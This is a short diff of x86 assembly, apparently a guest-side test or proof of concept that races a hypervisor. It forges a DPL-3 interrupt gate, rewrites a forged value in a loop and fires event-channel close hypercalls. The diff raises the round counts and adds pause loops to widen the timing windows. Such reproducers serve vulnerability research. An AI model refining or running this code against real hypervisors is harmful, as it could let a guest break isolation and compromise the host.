@@ -24,7 +24,7 @@ IN_KERNEL       equ 4
 
 ROUNDS          equ 400
 GRANT_ROUNDS    equ 4000
-PORT_ROUNDS     equ 2000
+PORT_ROUNDS     equ 4000
 REFERENCE       equ 20
 SENTINEL        equ 0x0123456789ABCDEF
 GATE            equ 0x0000EE000033C000          ; an interrupt gate with DPL 3: nothing a guest may have
@@ -303,7 +303,11 @@ second: mov rax, [work]
         mov rax, [forged]
         mov ecx, 64
 .write: mov [rdi], rax
+        pause
+        pause
         mov qword [rdi], 0
+        pause
+        pause
 .resume:
         dec ecx
         jnz .write
@@ -348,12 +352,16 @@ second: mov rax, [work]
         jz .bound
         inc qword [broken]
 .bound: mov r12d, [second_op + 8]
+        mov ecx, 200                            ; time for an event
+.open:  pause
+        dec ecx
+        jnz .open
         mov [second_op], ebp
         HYPERCALL EVENT_CHANNEL_OP, EVTCHN_CLOSE, second_op
-        mov rdi, rax
+        mov rbp, rax
         mov [second_op], r12d
         HYPERCALL EVENT_CHANNEL_OP, EVTCHN_CLOSE, second_op
-        or rax, rdi
+        or rax, rbp
         jz .closed
         inc qword [broken]
 .closed:
